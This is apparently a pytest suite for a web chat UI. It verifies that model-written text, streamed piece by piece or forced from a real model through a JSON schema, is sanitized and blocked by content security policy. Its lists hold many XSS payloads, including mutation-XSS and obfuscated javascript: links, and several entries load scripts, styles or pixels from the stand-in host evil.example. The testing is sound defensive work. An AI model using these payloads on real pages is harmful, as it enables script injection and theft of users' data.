"""What a model writes is never more than text: each wall of the web chat alone, and all of them with a real model.

A payload counts as having run when it sets `window.hit`, opens a dialog or makes a request; every visit listens for the
last two. That the browser would run them where nothing stands in their way is asserted too.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest

from tests.serve.browser import CHAT, StandIn, Visit, stream
from tests.serve.conftest import Server

HTML = [
    "<script>hit=1</script>",
    "<script src=//evil.example/x.js></script>",
    "<img src=x onerror=hit=1>",
    "<img src=//evil.example/pixel.png>",
    "<svg onload=hit=1>",
    "<svg><script>hit=1</script></svg>",
    "<svg><animate onbegin=hit=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:hit=1"><text x=20 y=20>click</text></a></svg>',
    "<svg><style><img src=x onerror=hit=1></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=hit=1&gt;'>",
    "<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style>"
    "<a title='</style><img src=x onerror=hit=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit=1>",
    "<noscript><p title='</noscript><img src=x onerror=hit=1>'>",
    "<template><img src=x onerror=hit=1></template>",
    "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
    "<iframe src=javascript:parent.hit=1></iframe>",
    "<object data=javascript:hit=1></object><embed src=javascript:hit=1>",
    "<details open ontoggle=hit=1>x</details>",
    "<input autofocus onfocus=hit=1>",
    "<video><source onerror=hit=1></video><audio src onerror=hit=1>",
    "<body onload=hit=1><marquee onstart=hit=1>x</marquee>",
    "<a href=javascript:hit=1>press</a>",
    "<a href='java&#10;script&colon;hit=1'>press</a>",
    "<a href=data:text/html,<script>parent.hit=1</script>>press</a>",
    "<a href=vbscript:hit>press</a>",
    "<form action=javascript:hit=1><button>press</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css'; body{display:none}</style>",
    "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<div style='position:fixed;inset:0;background:url(//evil.example/z.png)' class=failure id=prompt>spoof</div>",
    "<div is=x-evil onclick=hit=1 data-action=delete aria-label=Send>x</div>",
    "<<img src=x onerror=hit=1>img src=x onerror=hit=1>",
    "<scr<script>ipt>hit=1</scr</script>ipt>",
    "<!--><img src=x onerror=hit=1>-->",
    "<![CDATA[><img src=x onerror=hit=1>]]>",
    "\x00<img\x0csrc=x\x0conerror=hit=1\x0c>",
]
MARKDOWN = [
    "[press](javascript:hit=1)",
    "[press](JaVaScRiPt&colon;hit=1)",
    "[press](&#106;avascript:hit=1)",
    "[press](java\tscript:hit=1)",
    "[press](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)",
    "[press](//evil.example)",
    "[press](blob:https://evil.example/1)",
    "<javascript:hit=1>",
    "![x](x\"onerror=\"hit=1)",
    "![x](https://evil.example/pixel.png)",
    "![<img src=x onerror=hit=1>](javascript:hit=1)",
    "[x]: javascript:hit=1\n\n[x] and [x][x]",
    "[a](https://a.example \"title\\\" onmouseover=\\\"hit=1\")",
    "```html\"><img src=x onerror=hit=1>\n<script>hit=1</script>\n```",
    "```python\n</code></pre><img src=x onerror=hit=1>\n",
    "`<img src=x onerror=hit=1>` **<svg onload=hit=1>**",
    "| <img src=x onerror=hit=1> |\n|---|\n| <script>hit=1</script> |",
    "# <img src=x onerror=hit=1>\n\n> <svg onload=hit=1>\n> > - <script>hit=1</script>",
    "- [x] <img src=x onerror=hit=1>\n1. [ ](javascript:hit=1)",
    "[[[[[[(((((*_*_*_~~~~~```` `` <a <b <c &#x &#0; &#xD800; \ud7ff",
]  # fmt: skip
DEEP = [
    ">" * 6000 + " x",
    "[" * 5000,
    "*" * 9001 + "a",
    "- " * 3000 + "x",
    "`" * 5000,
    "<a" * 5000,
    "|" * 4000 + "\n" + "|-" * 4000,
]

# Everything under the root that no answer may have.
FORBIDDEN = """(root) => {
  const names = "A BLOCKQUOTE BR CODE DEL DIV EM H1 H2 H3 H4 H5 H6 HR LI OL P PRE SPAN STRONG TABLE TBODY TD TH";
  const tags = new Set(`${names} THEAD TR UL`.split(" "));
  const found = [];
  for (const e of root.querySelectorAll("*")) {
    if (e.closest(".code-head")) continue;  // the page's own
    if (!tags.has(e.tagName.toUpperCase()) || e.namespaceURI !== "http://www.w3.org/1999/xhtml") found.push(e.tagName);
    for (const { name, value } of e.attributes) {
      const own = ["class", "href", "rel", "target", "title", "tabindex", "align", "start"];
      if (!own.includes(name)) found.push(`${e.tagName} ${name}=${value}`);
    }
    if (e.tagName === "DIV" && !["code", "table"].includes(e.className)) found.push(`DIV ${e.className}`);
    if (e.tagName === "A" && e.hasAttribute("href")) {
      const isSafe = /^(https?|mailto):$/.test(e.protocol) && e.rel.includes("noopener") && e.target === "_blank";
      if (!isSafe) found.push(e.outerHTML);
    }
  }
  return found;
}"""


@pytest.fixture
def visit(browser: Any, server: Server) -> Iterator[Visit]:
    here = Visit(browser, server.url)
    here.open()
    yield here
    assert here.page.evaluate("window.hit") is None
    here.leave()


def module(visit: Visit) -> str:
    """The address of the page's renderer."""
    return next(url for url in visit.requests if url.endswith("/markdown.js"))


def press_links(visit: Visit, where: str) -> None:
    """What has no address goes nowhere; what has one is never of a kind that runs."""
    visit.page.eval_on_selector_all(f"{where} a:not([href])", "(links) => links.forEach((link) => link.click())")


def test_the_payloads_run_where_nothing_stands_in_their_way(browser: Any) -> None:
    page = browser.new_page()
    for payload in ("<img src=x onerror=hit=1>", "<details open ontoggle=hit=1>x</details>"):
        page.goto("about:blank")
        page.evaluate("(html) => { document.body.innerHTML = html; }", payload)
        page.wait_for_timeout(100)
        assert page.evaluate("window.hit") == 1, payload
    page.close()


def test_what_a_model_writes_is_shown_and_does_nothing(visit: Visit) -> None:
    """All walls together, through the whole page."""
    texts = [HTML[2], HTML[9], HTML[21], MARKDOWN[0], MARKDOWN[9], "\n\n".join([*MARKDOWN, *HTML])]
    StandIn(visit.page, [stream(*(text[at : at + 3] for at in range(0, len(text), 3))) for text in texts])
    for text in texts:
        visit.page.click("#new-chat")
        visit.ask("Go on")
        visit.answered()
        assert visit.page.eval_on_selector(".answer > .text", FORBIDDEN) == [], text
        assert visit.page.text_content(".answer > .text").strip(), f"{text} was not shown"
        press_links(visit, ".answer .text")


def test_no_beginning_of_a_payload_is_more_than_text(visit: Visit) -> None:
    """The renderer as it is while an answer grows: every second beginning of every payload is drawn and looked at."""
    found = visit.page.evaluate(
        f"""async ([address, payloads]) => {{
          const forbidden = {FORBIDDEN};
          const {{ MarkdownView }} = await import(address);
          const found = [];
          for (const payload of payloads) {{
            const root = document.createElement("section");
            document.querySelector("#messages").append(root);
            const view = new MarkdownView(root);
            for (let end = 1; end < payload.length + 2; end += 2) {{
              view.show(payload.slice(0, end));
              found.push(...forbidden(root).map((what) => [payload.slice(0, end), what]));
            }}
          }}
          return found;
        }}""",
        [module(visit), [*MARKDOWN, *HTML]],
    )
    assert found == []
    assert visit.page.locator("#messages section").count() == len(MARKDOWN) + len(HTML)
    press_links(visit, "#messages section")
    visit.page.wait_for_timeout(200)


def test_the_sanitizer_alone_lets_nothing_through(browser: Any, server: Server) -> None:
    """As if the renderer handed on all HTML as it is, and the browser knew of no policy."""
    visit = Visit(browser, server.url, bypass_csp=True)
    page = visit.open()
    page.evaluate(
        """async ([address, payloads]) => {
          const { sanitized } = await import(address);
          for (const html of payloads) {
            const box = document.createElement("section");
            box.append(sanitized(html));
            document.querySelector("#messages").append(box);
          }
        }""",
        [module(visit), HTML],
    )
    assert page.locator("#messages section").count() == len(HTML)
    assert page.eval_on_selector_all("#messages section", f"(all) => all.flatMap({FORBIDDEN})") == []
    press_links(visit, "#messages section")
    page.wait_for_timeout(200)
    assert page.evaluate("window.hit") is None
    page.evaluate("document.querySelector('#messages').innerHTML = '<img src=data:, onerror=hit=1>'")
    page.wait_for_function("window.hit === 1")  # so the policy was out of the way
    visit.leave()


def test_the_policy_alone_stops_what_got_through(browser: Any, server: Server) -> None:
    """As if there were no sanitizer: strings become no markup, inline scripts do not run, no other host is reached."""
    visit = Visit(browser, server.url)
    page = visit.open()
    with pytest.raises(Exception, match="TrustedHTML"):
        page.evaluate("document.body.innerHTML = '<img src=x onerror=hit=1>'")
    page.evaluate(
        """() => {
          const add = (name, attributes) => {
            const e = document.createElement(name);
            for (const [key, value] of Object.entries(attributes)) {
              try { e.setAttribute(key, value); } catch (error) { window.violations.push(String(error)); }
            }
            document.body.append(e);
            return e;
          };
          add("img", { src: "x", onerror: "hit=1" });
          add("img", { src: "https://evil.example/pixel.png" });
          add("link", { rel: "stylesheet", href: "https://evil.example/x.css" });
          add("iframe", { src: "https://evil.example/" });
          add("a", { href: "javascript:hit=1" }).click();
          add("form", { action: "https://evil.example/" }).submit();
          add("base", { href: "https://evil.example/" });
        }"""
    )
    assert page.evaluate("fetch('https://evil.example/').then(() => 'sent', () => 'refused')") == "refused"
    page.wait_for_timeout(300)
    assert page.evaluate("window.hit") is None
    assert page.evaluate("document.baseURI") == f"{server.url}/"
    violated = " ".join(page.evaluate("window.violations"))
    for rule in ("require-trusted-types-for", "img-src", "style-src", "connect-src", "form-action", "base-uri"):
        assert rule in violated, rule
    assert "TrustedScript" in violated or "script-src" in violated
    visit.context.close()


def test_text_that_is_nested_without_end_is_drawn_in_time(visit: Visit) -> None:
    StandIn(visit.page, [stream(text) for text in DEEP])
    for _ in DEEP:
        visit.page.click("#new-chat")
        visit.ask("Go on")
        visit.answered()
        assert visit.page.text_content("article.answer > .text") is not None
        assert visit.page.eval_on_selector("article.answer > .text", FORBIDDEN) == []
    assert visit.page.evaluate("1 + 1") == 2


@pytest.mark.parametrize("payload", ["<img src=x onerror=hit=1>", "[press](javascript:hit=1) <script>hit=1</script>"])
def test_a_real_model_that_is_made_to_write_it(visit: Visit, payload: str) -> None:
    """A schema leaves the model nothing else to say: the server itself streams the payload."""

    def held(route: Any) -> None:
        body = json.loads(route.request.post_data)
        schema = {"name": "payload", "schema": {"const": payload}}
        body["response_format"] = {"type": "json_schema", "json_schema": schema}
        route.continue_(post_data=json.dumps(body))

    visit.page.route(CHAT, held)
    visit.ask("Go on")
    text = visit.answered()
    assert "hit=1" in visit.page.text_content("article.answer > .text") or "press" in text
    assert visit.page.eval_on_selector("article.answer > .text", FORBIDDEN) == []
    press_links(visit, ".answer .text")
